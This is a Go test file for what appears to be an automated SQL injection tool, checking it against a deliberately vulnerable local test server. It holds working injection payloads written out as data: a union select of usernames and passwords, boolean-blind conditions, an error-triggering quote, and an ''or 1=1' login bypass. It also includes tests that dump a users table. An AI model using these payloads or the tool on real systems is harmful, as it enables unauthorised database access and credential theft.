package testutil

import (
	"context"
	"io"
	"iter"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/0x6d61/sqlsiphon/internal/engine"
	"github.com/0x6d61/sqlsiphon/internal/strategy"
	"github.com/0x6d61/sqlsiphon/internal/transport"
)

func get(t *testing.T, rawURL string) (int, string) {
	t.Helper()
	resp, err := http.Get(rawURL)
	if err != nil {
		t.Fatalf("request failed: %v", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body)
}

func TestVulnServer_Product(t *testing.T) {
	srv := NewVulnServer(t)

	status, body := get(t, srv.URL+"/product?id=1")
	if status != http.StatusOK {
		t.Errorf("status = %d, want %d", status, http.StatusOK)
	}
	if !strings.Contains(body, "Widget\t9.5") {
		t.Errorf("body does not contain the product row, got: %s", body)
	}
}

func TestVulnServer_ProductUnion(t *testing.T) {
	srv := NewVulnServer(t)

	_, body := get(t, srv.URL+"/product?id="+url.QueryEscape("1 union select username, password from users-- -"))
	if !strings.Contains(body, "admin\ts3cr3t") {
		t.Errorf("union rows not reflected, got: %s", body)
	}
}

func TestVulnServer_ProductError(t *testing.T) {
	srv := NewVulnServer(t)

	status, body := get(t, srv.URL+"/product?id="+url.QueryEscape("1'"))
	if status != http.StatusInternalServerError {
		t.Errorf("status = %d, want %d", status, http.StatusInternalServerError)
	}
	if !strings.Contains(body, "Database error") {
		t.Errorf("body does not contain the database error, got: %s", body)
	}
}

func TestVulnServer_Search(t *testing.T) {
	srv := NewVulnServer(t)

	_, body := get(t, srv.URL+"/search?name=Gadget")
	if !strings.Contains(body, "Gadget\t25") {
		t.Errorf("body does not contain the product row, got: %s", body)
	}
}

func TestVulnServer_Item(t *testing.T) {
	srv := NewVulnServer(t)

	tests := []struct {
		id   string
		want int
	}{
		{"1", http.StatusOK},
		{"99", http.StatusNotFound},
		{"1 and 0 = 1", http.StatusNotFound},
		{"1 and 0 = 0", http.StatusOK},
		{"1'", http.StatusInternalServerError},
	}
	for _, tt := range tests {
		status, _ := get(t, srv.URL+"/item?id="+url.QueryEscape(tt.id))
		if status != tt.want {
			t.Errorf("id %q: status = %d, want %d", tt.id, status, tt.want)
		}
	}
}

func TestVulnServer_Login(t *testing.T) {
	srv := NewVulnServer(t)

	resp, err := http.PostForm(srv.URL+"/login", url.Values{"user": {"x' or 1=1-- -"}})
	if err != nil {
		t.Fatalf("request failed: %v", err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(body), "alice") {
		t.Errorf("login bypass did not list users, got: %s", body)
	}

	resp, err = http.Get(srv.URL + "/login")
	if err != nil {
		t.Fatalf("request failed: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Errorf("GET /login status = %d, want %d", resp.StatusCode, http.StatusMethodNotAllowed)
	}
}

// injector configures an injector against the first parameter of rawURL.
func injector(t *testing.T, rawURL, vendor string, cfg *engine.Config) *engine.Injector {
	t.Helper()
	client, err := transport.NewClient(transport.ClientOptions{Timeout: 10 * time.Second})
	if err != nil {
		t.Fatalf("NewClient returned error: %v", err)
	}
	target := transport.Target{URL: rawURL, Method: http.MethodGet}
	params := transport.ParseParameters(rawURL, "", "")
	param, ok := transport.Find(params, "")
	if !ok {
		t.Fatalf("no parameter in %s", rawURL)
	}
	prober := transport.NewProber(client, target, param, transport.DefaultBoundary(param.Type))

	in, err := engine.New(prober, engine.WithConfig(cfg))
	if err != nil {
		t.Fatalf("engine.New returned error: %v", err)
	}
	t.Cleanup(func() { in.Close() })
	if _, err := in.ConfigureTarget(context.Background(), target.Endpoint(param.Name), vendor); err != nil {
		t.Fatalf("ConfigureTarget returned error: %v", err)
	}
	return in
}

func collect[T any](t *testing.T, seq iter.Seq2[T, error]) []T {
	t.Helper()
	var out []T
	for v, err := range seq {
		if err != nil {
			t.Fatalf("stream failed after %d values: %v", len(out), err)
		}
		out = append(out, v)
	}
	return out
}

func userRows(t *testing.T, rows []engine.Row) [][]string {
	t.Helper()
	var got [][]string
	for _, r := range rows {
		got = append(got, r.Values)
	}
	slices.SortFunc(got, func(a, b []string) int { return strings.Compare(a[0], b[0]) })
	return got
}

func TestExtract_UnionSQLite(t *testing.T) {
	srv := NewVulnServer(t)
	in := injector(t, srv.URL+"/product?id=1", "sqlite", engine.DefaultConfig())
	ctx := context.Background()

	if st := in.Session().Strategy; st.Kind != strategy.Normal {
		t.Fatalf("strategy = %s, want normal", st)
	}
	if c := in.Session().Calibration; c.Fields != 2 || c.Capacity < 1000 {
		t.Errorf("calibration = %d fields, capacity %d", c.Fields, c.Capacity)
	}

	info, err := in.Info(ctx)
	if err != nil {
		t.Fatalf("Info returned error: %v", err)
	}
	if !strings.HasPrefix(info.Version, "3.") || info.Database != "main" {
		t.Errorf("Info = %+v", info)
	}

	dbs := collect(t, in.ListDatabases(ctx))
	if !slices.ContainsFunc(dbs, func(d engine.Database) bool { return d.Name == "main" }) {
		t.Fatalf("databases = %+v, want main", dbs)
	}

	tables := collect(t, in.ListTables(ctx, engine.Database{Name: "main"}))
	var names []string
	for _, tb := range tables {
		names = append(names, tb.Name)
	}
	if !slices.Equal(names, []string{"products", "users"}) {
		t.Errorf("tables = %v, want [products users]", names)
	}

	users := engine.Table{Database: "main", Name: "users"}
	cols := collect(t, in.ListColumns(ctx, users))
	var colNames []string
	for _, c := range cols {
		colNames = append(colNames, c.Name)
	}
	if !slices.Equal(colNames, []string{"id", "username", "password"}) {
		t.Errorf("columns = %v", colNames)
	}

	rows := collect(t, in.ReadRows(ctx, users, cols))
	got := userRows(t, rows)
	if !slices.EqualFunc(got, Users, slices.Equal[[]string]) {
		t.Errorf("rows = %q, want %q", got, Users)
	}
}

func TestExtract_DumpNullCells(t *testing.T) {
	srv := NewVulnServer(t)
	in := injector(t, srv.URL+"/product?id=1", "sqlite", engine.DefaultConfig())

	rows := collect(t, in.Dump(context.Background(), []engine.Table{{Database: "main", Name: "products"}}, "name", "price"))
	if len(rows) != 3 {
		t.Fatalf("got %d rows, want 3", len(rows))
	}
	for _, r := range rows {
		if r.Values[0] == "Gizmo" && r.Values[1] != "" {
			t.Errorf("NULL price read as %q", r.Values[1])
		}
	}
}

func TestExtract_QuotedParameter(t *testing.T) {
	srv := NewVulnServer(t)
	in := injector(t, srv.URL+"/search?name=Widget", "sqlite", engine.DefaultConfig())

	info, err := in.Info(context.Background())
	if err != nil {
		t.Fatalf("Info returned error: %v", err)
	}
	if info.Database != "main" {
		t.Errorf("Database = %q, want main", info.Database)
	}
}

func TestExtract_FingerprintSQLite(t *testing.T) {
	srv := NewVulnServer(t)
	in := injector(t, srv.URL+"/product?id=1", "", engine.DefaultConfig())

	if name := in.Session().Dialect.Name; name != "SQLite" {
		t.Errorf("vendor = %q, want SQLite", name)
	}
}

func TestExtract_BlindSQLite(t *testing.T) {
	srv := NewVulnServer(t)
	cfg := engine.DefaultConfig()
	cfg.MaxFields = 3
	in := injector(t, srv.URL+"/item?id=1", "sqlite", cfg)

	if st := in.Session().Strategy; st.Kind != strategy.Blind {
		t.Fatalf("strategy = %s, want blind", st)
	}

	users := engine.Table{Database: "main", Name: "users"}
	rows := collect(t, in.Dump(context.Background(), []engine.Table{users}, "id", "username", "password"))
	got := userRows(t, rows)
	if !slices.EqualFunc(got, Users, slices.Equal[[]string]) {
		t.Errorf("rows = %q, want %q", got, Users)
	}
}
